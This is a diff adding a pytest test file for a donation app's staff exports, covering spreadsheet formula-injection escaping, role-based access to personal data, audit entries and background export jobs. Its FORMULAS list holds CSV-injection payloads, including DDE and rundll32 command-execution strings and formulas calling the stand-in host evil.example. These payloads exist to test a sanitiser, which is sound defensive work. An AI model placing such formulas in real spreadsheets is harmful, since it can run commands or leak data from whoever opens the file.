@@ -1,0 +1,117 @@
+"""Exports: safe to open anywhere, right by role, in the audit, and the long ones beside the request."""
+
+import csv
+import io
+from collections.abc import Callable
+
+import openpyxl
+import pytest
+from flask import Flask
+
+from appeal import audit, sheets
+from appeal.appeals import by_slug
+from appeal.extensions import db
+from appeal.sheets import Amount
+from tests.staff.conftest import Office, make_gift
+from tests.support.waiting import until
+
+Enter = Callable[..., Office]
+
+FORMULAS = [
+    "=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.example","click")', "=cmd|' /C calc'!A0", "\t=1+1",
+    "\r=1+1", "\n=1+1", " =1+1", "  +cmd", '=1+1";=1+1', "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\u00a0=1", "\u3000=1",
+    "\ufeff=1+1", "-2+3+cmd|' /C calc'!A0", '=IMPORTXML(CONCAT(""http://evil.example"",1),""//a"")', "|calc",
+    "%0A=1", "\u2212 1", "\ufe62 1", '=DDE("cmd";"/C calc";"x")', "@@1", "+-+1", "=\u200b1", "\u200b=1",
+    '=WEBSERVICE("http://evil.example")', '=IMAGE("http://evil.example")', "-HYPERLINK(1)", "+HYPERLINK(1)", "=A1&B1",
+    "=1\r\n=2", "\x00=1", "=+-@", "@import", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+]  # fmt: skip
+DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_can_run_as_a_formula(text: str) -> None:
+    cell = sheets.text_cell(text)
+    assert not cell.lstrip(" \u00a0\u3000\ufeff\u200b").startswith(DANGEROUS)
+    assert cell.startswith("'")
+
+
+@pytest.mark.parametrize("text", ["Ada Byron", "O'Neil", "Zoë = fine", "5 + 5", "", "a-b", "İpek"])
+def test_an_honest_text_stays_as_it_is(text: str) -> None:
+    assert sheets.text_cell(text) == text
+
+
+@pytest.mark.parametrize(
+    ("minor", "currency", "text"),
+    [
+        (2500, "gbp", "25.00"),
+        (-5, "gbp", "-0.05"),
+        (0, "eur", "0.00"),
+        (-1000, "jpy", "-1000"),
+        (1234, "kwd", "1.234"),
+    ],
+)
+def test_an_amount_is_a_plain_number(minor: int, currency: str, text: str) -> None:
+    assert str(Amount(minor, currency)) == text
+
+
+def test_a_csv_reads_back_and_excel_is_told_that_it_is_utf_8() -> None:
+    rows = [["=1", "Zoë, “quoted”", Amount(-5, "gbp"), None, 'a "b"\nc']]
+    plain = b"".join(sheets.as_csv(["a", "b", "c", "d", "e"], rows)).decode("utf-8")
+    assert list(csv.reader(io.StringIO(plain)))[1] == ["'=1", "Zoë, “quoted”", "-0.05", "", 'a "b"\nc']
+    excel = b"".join(sheets.as_csv(["a"], [], excel=True))
+    assert excel.startswith(b"\xef\xbb\xbf")
+
+
+def test_a_workbook_holds_no_formula_and_amounts_are_numbers(office: Enter, app: Flask, winter: str) -> None:
+    with app.app_context():
+        for number, text in enumerate(FORMULAS):
+            if "\x00" not in text:
+                make_gift(by_slug("winter"), 100, text.strip() or "x", email=f"{number}@readers.example")
+        db.session.remove()
+    book = openpyxl.load_workbook(io.BytesIO(office("editor").get("/staff/donations.xlsx").data))
+    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    assert not [
+        cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS)
+    ]
+    assert book.active["E2"].value == 10
+    assert book.active["E2"].number_format == "#,##0.00"
+
+
+def test_personal_data_leaves_only_for_those_who_may_see_it(office: Enter, winter: str) -> None:
+    assert "readers.example" not in office("viewer").get("/staff/donations.csv").text
+    assert "Byron" not in office("viewer").get("/staff/donations.csv").text
+    assert "ada@readers.example" in office("editor").get("/staff/donations.csv").text
+
+
+def test_every_export_is_in_the_audit(office: Enter, app: Flask, winter: str) -> None:
+    office("editor").get("/staff/npsp.csv")
+    with app.app_context():
+        entry = audit.entries(audit.Search(action="export.made"))[0][0]
+        assert entry.actor == "editor@lantern.example"
+        assert entry.after == {"file": "winter-npsp.csv", "with_personal_data": True}
+
+
+def test_the_crm_preset_has_the_headings_that_npsp_expects(office: Enter, winter: str) -> None:
+    rows = list(csv.DictReader(io.StringIO(office("editor").get("/staff/npsp.csv").text)))
+    first = rows[0]
+    assert (first["Contact1 First Name"], first["Contact1 Last Name"]) == ("Ada", "Byron")
+    assert (first["Donation Amount"], first["Donation Stage"]) == ("10.00", "Closed Won")
+    assert sum(float(row["Donation Amount"]) for row in rows) == 55.0
+
+
+def test_a_long_export_is_made_beside_the_request_and_belongs_to_its_maker(
+    office: Enter, winter: str
+) -> None:
+    editor = office("editor")
+    started = editor.post("/staff/exports", {"preset": "xlsx", "appeal": "winter"})
+    assert started.status_code == 303
+    page = until(
+        lambda: (text := editor.get(started.location).text) and "Fetch the file" in text and text,
+        what="the file",
+    )
+    assert "4 of about 4 rows" in page
+    with editor.get(f"{started.location}/file") as answer:
+        book = openpyxl.load_workbook(io.BytesIO(answer.data))
+    assert book.active.max_row == 5
+    assert office("admin").get(f"{started.location}/file").status_code == 404
